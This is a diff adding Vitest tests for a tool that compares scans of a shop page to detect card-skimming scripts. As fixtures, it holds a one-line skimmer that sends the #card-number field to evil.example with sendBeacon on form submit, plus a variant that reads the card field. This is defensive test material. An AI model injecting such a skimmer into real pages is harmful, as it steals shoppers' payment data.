@@ -1,0 +1,206 @@
+import { describe, expect, it } from 'vitest'
+import type { Capture, CapturedScript } from '#capture/index.ts'
+import { compareVisited, inStripesFrame, told, type Visit } from '../../helpers/compare.ts'
+import { makeBehaviour, makeBodies, makeCanary, makeDocument, makeField, makeScript } from '../../helpers/make-capture.ts'
+
+const bodies = makeBodies()
+const app = 'https://shop.example/app.js'
+const tag = 'https://tags.vendor.example/t.js'
+const script = (url: string | null, text: string, given: Partial<CapturedScript> = {}) => makeScript(bodies, { url, text, ...given })
+const visit = (scripts: CapturedScript[], capture: Partial<Capture> = {}): Visit => ({ capture: { scripts, ...capture }, bodies })
+const unread = (of: Visit): Visit => ({ ...of, forgets: true })
+const partial = (code: 'timeout' | 'dialog-held'): Partial<Capture> => ({
+  outcome: { status: 'partial', code, detail: '', issues: [{ code, detail: '', frameId: null, atMs: 1 }] },
+})
+const failed: Visit = { capture: { outcome: { status: 'failed', code: 'bot-wall', detail: '', issues: [] } } }
+
+const sum = 'function total(items) { return items.reduce(function (a, b) { return a + b.price }, 0) } window.total = total'
+const steals = `${sum}; document.addEventListener('submit', function () { navigator.sendBeacon('https://evil.example/c', document.querySelector('#card-number').value) })`
+
+describe('two scans of a page', () => {
+  it('that saw the same have no change and leave nothing out', () => {
+    const one = visit([script(app, sum), script(null, 'var cart = 1'), script(tag, 'var t = 2')])
+    expect(compareVisited(one, one)).toEqual({
+      changes: [],
+      notCompared: [],
+      summary: expect.objectContaining({ alert: false, scripts: { same: 3, changed: 0, added: 0, removed: 0 } }),
+    })
+  })
+
+  it('say of a script that can newly send what a shopper types where it goes, at once, with the lines', () => {
+    const compared = compareVisited(visit([script(app, sum)]), visit([script(app, `// cart\n${steals}`)]))
+    expect(compared.summary).toMatchObject({ alert: true, scripts: { changed: 1 } })
+    const [change] = compared.changes
+    expect(change).toMatchObject({ kind: 'script-changed', subject: 'shop.example/app.js' })
+    expect(change?.newCapabilities.join(', ')).toContain('evil.example')
+    expect(change?.lines.map(({ after }) => after)).toContainEqual([2, 2])
+  })
+
+  it('take a script with other names or data as rebuilt, and the same under another hash in its address as the same', () => {
+    const renamed = sum.replaceAll('items', 'x').replaceAll('total', 'total')
+    expect(told(compareVisited(visit([script(app, sum)]), visit([script(app, renamed)])))).toEqual([
+      'script-changed rebuild: same-structure',
+    ])
+    const hashed = (hash: string) => visit([script(`https://shop.example/app.${hash}.js`, sum)])
+    expect(compareVisited(hashed('3f2a9c1b'), hashed('9c1b3f2a')).changes).toEqual([])
+  })
+
+  it('tell an inline script of which data differs as rebuilt, whether its code was kept or not', () => {
+    const [one, other] = [1, 2].map((n) => visit([script(null, `window.cart = { total: ${n}, id: "c${n}" }`)])) as [Visit, Visit]
+    for (const pair of [
+      [one, other],
+      [unread(one), unread(other)],
+    ] as const)
+      expect(compareVisited(...pair).changes.map(({ verdict }) => verdict)).toEqual(['rebuild'])
+  })
+
+  it('of two look-alike inline scripts tell the one that turned', () => {
+    const twin = 'window.q = window.q || []; window.q.push(document.title)'
+    const turned = "window.q = window.q || []; window.q.push(document.querySelector('#card-number').value)"
+    const compared = compareVisited(visit([script(null, twin), script(null, twin)]), visit([script(null, twin), script(null, turned)]))
+    expect(compared.changes.map(({ kind, verdict }) => [kind, verdict])).toEqual([['script-changed', 'capability']])
+    expect(compared.summary.scripts).toMatchObject({ same: 1, changed: 1 })
+  })
+
+  it('do not let a content that changed pass for the same where its code is not at hand', () => {
+    const compared = compareVisited(unread(visit([script(app, sum)])), unread(visit([script(app, steals)])))
+    expect(told(compared)).toEqual(['script-changed capability: not-judged'])
+  })
+
+  it('tell a new script of a third party at once, a new one of the site by what it can do', () => {
+    const none = visit([])
+    expect(told(compareVisited(none, visit([script(tag, 'var t = 2')])))[0]).toBe(
+      'script-added capability: unknown-host script-added nothing-found third-party',
+    )
+    expect(told(compareVisited(none, visit([script(app, sum)])))).toEqual(['script-added rebuild: script-added nothing-found'])
+    expect(compareVisited(none, visit([script(app, steals)])).changes[0]).toMatchObject({ kind: 'script-added', verdict: 'capability' })
+  })
+
+  it('tell a new script that does not run quietly', () => {
+    const blocked = script(tag, steals, { state: 'blocked', blocked: { by: 'csp', detail: '' } })
+    expect(told(compareVisited(visit([]), visit([blocked])))).toEqual(['script-added rebuild: script-added does-not-run'])
+  })
+
+  it('tell changes in a payment provider’s frame quietly, since they are its duty', () => {
+    const inFrame = (text: string) => visit([script('https://js.stripe.com/v3/controller.js', text, { frameId: 'pay' })], inStripesFrame())
+    const compared = compareVisited(inFrame(sum), inFrame(steals))
+    expect(compared.changes.map(({ kind, verdict }) => [kind, verdict])).toEqual([['script-changed', 'rebuild']])
+  })
+
+  it('tell a script that is gone quietly, or as not known where the visit is partial', () => {
+    const one = visit([script(app, sum)])
+    expect(told(compareVisited(one, visit([])))).toEqual(['script-removed rebuild: script-removed'])
+    const unsure = compareVisited(one, visit([], partial('timeout')))
+    expect(unsure.changes).toEqual([])
+    expect(unsure.notCompared.map(({ subject }) => subject)).toContain('shop.example/app.js')
+    expect(told(compareVisited(one, visit([], partial('dialog-held'))))).toEqual(['script-removed rebuild: script-removed'])
+  })
+
+  it('say of a new script after a partial visit that it may have been there', () => {
+    const compared = compareVisited(visit([], partial('timeout')), visit([script(app, steals)]))
+    expect(compared.changes[0]?.reasons.at(-1)).toEqual({
+      code: 'before-partial',
+      sentence: 'The scan before is partial (timeout). The script may have been there.',
+    })
+  })
+
+  it('of which one was not evaluated are not compared at all', () => {
+    const compared = compareVisited(visit([script(app, sum)]), failed)
+    expect(compared).toMatchObject({ changes: [], summary: { alert: false, scripts: null } })
+    expect(compared.notCompared).toEqual([{ subject: 'the page', why: 'The scan after was not evaluated (bot-wall).' }])
+  })
+
+  it('as a desktop and as a phone differ in what only one was given, whichever it was', () => {
+    const mobile = (of: Visit): Visit => ({ ...of, result: (result) => ({ ...result, profile: 'mobile' }) })
+    const [clean, dirty] = [visit([script(app, sum)]), visit([script(app, sum), script('https://shop.example/m.js', steals)])]
+    for (const pair of [
+      [clean, mobile(dirty)],
+      [dirty, mobile(clean)],
+    ] as const) {
+      const [change] = compareVisited(...pair).changes
+      expect(change).toMatchObject({ kind: 'profile', verdict: 'capability', subject: 'shop.example/m.js' })
+      expect(change?.reasons[0]?.code).toBe('profile-differs')
+    }
+  })
+})
+
+describe('what a scan found anew', () => {
+  const typed = { fields: [makeField()] }
+  const sent = (scripts: CapturedScript[]): Visit =>
+    visit(scripts, { ...typed, canary: makeCanary([{ url: 'https://evil.example/c', scriptId: scripts[0]?.id ?? null }]) })
+  const searched = (scripts: CapturedScript[]): Visit => visit(scripts, { ...typed, canary: makeCanary() })
+
+  it('makes the change of its script as grave as itself: the test card left the page', () => {
+    const [one, other] = [script(app, sum), script(app, steals)]
+    const { changes } = compareVisited(searched([one]), sent([other]))
+    expect(changes[0]).toMatchObject({ kind: 'script-changed', verdict: 'malicious' })
+    expect(changes[0]?.reasons.map(({ code }) => code)).toContain('canary-left-page')
+    expect(changes.filter(({ kind }) => kind === 'finding')).toEqual([])
+  })
+
+  it('is a change of its own where the script’s bytes are the same', () => {
+    const same = script(app, sum)
+    expect(told(compareVisited(searched([same]), sent([same])))[0]).toBe('finding malicious: canary-left-page')
+    expect(compareVisited(sent([same]), sent([same])).changes).toEqual([])
+  })
+
+  it('says nothing where the visits did not type a card, and does not pass for clean', () => {
+    const compared = compareVisited(searched([]), visit([], typed))
+    expect(compared.notCompared).toContainEqual({
+      subject: 'What scripts do while the card is typed',
+      why: 'The scan after did not type a test card and search all traffic for it.',
+    })
+  })
+
+  it('under other rules is told only of theft, and the rest as not compared', () => {
+    const [read, calm] = [script(app, sum), script(app, sum)]
+    const reads = visit([read], { ...typed, behaviours: [makeBehaviour({ scriptId: read.id })], canary: makeCanary() })
+    expect(told(compareVisited(searched([calm]), reads)).join()).toContain('reads-card-field')
+    const older: Visit = { ...searched([calm]), result: (result) => ({ ...result, rulesVersion: '2020.1' }) }
+    const compared = compareVisited(older, reads)
+    expect(compared.changes).toEqual([])
+    expect(compared.notCompared.map(({ subject }) => subject)).toEqual(['findings'])
+  })
+
+  it('does not tell again what the comparison of headers tells', () => {
+    const bare = visit([], { documents: [makeDocument({ headers: [['content-type', 'text/html']] })] })
+    expect(new Set(compareVisited(visit([]), bare).changes.map(({ kind }) => kind))).toEqual(new Set(['header']))
+  })
+
+  it('of another browser is not known where only one scan looked', () => {
+    const looked: Visit = { ...visit([]), result: (result) => ({ ...result, cloakCheck: { state: 'compared', detail: '' } }) }
+    expect(compareVisited(visit([]), looked).notCompared).toEqual([
+      { subject: 'scripts given to another browser', why: 'The scan before was not compared with a visit in another browser.' },
+    ])
+    expect(compareVisited(looked, looked).notCompared).toEqual([])
+  })
+})
+
+describe('hostile scans', () => {
+  it('with names of prototypes, broken addresses and code that is none are compared without an exception', () => {
+    const wild = (text: string): Visit => ({
+      ...visit([script('https://shop.example/__proto__', text), script(null, text)], {
+        documents: [
+          makeDocument({
+            headers: [
+              ['content-security-policy', '__proto__ constructor; toString x'],
+              ['set-cookie', '__proto__=1'],
+              ['content-type', 'x'],
+            ],
+            base: 'http://[',
+          }),
+        ],
+        fields: [makeField({ name: '__proto__' })],
+      }),
+      result: (result) => ({
+        ...result,
+        page: {
+          ...result.page,
+          frames: [...result.page.frames, { id: 'x', url: 'http://[', origin: 'null', scope: 'other' }],
+          forms: [{ frameId: 'nowhere', method: '', action: 'javascript:void 0' }],
+        },
+      }),
+    })
+    expect(() => compareVisited(wild(`${'('.repeat(5_000)}\ufffd`), wild('constructor: while (__proto__) {'))).not.toThrow()
+  })
+})
